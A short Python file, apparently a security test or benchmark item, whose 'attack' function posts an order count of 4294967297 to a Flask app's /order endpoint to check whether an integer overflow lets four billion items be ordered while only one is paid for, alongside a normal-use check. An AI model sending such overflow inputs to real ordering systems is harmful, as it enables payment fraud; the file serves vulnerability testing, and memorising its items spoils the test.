"""Orders four billion and pays for one."""


def attack(code):
    answer = ordered(code, 4294967297)
    if answer.status_code == 200 and answer.get_json()["paid for"] == 1:
        return answer.get_data(as_text=True).strip()
    return None


def use(code):
    assert ordered(code, 3).get_json() == {"ordered": 3, "paid for": 3}


def ordered(code, count):
    return code.app.test_client().post("/order", data={"count": count})
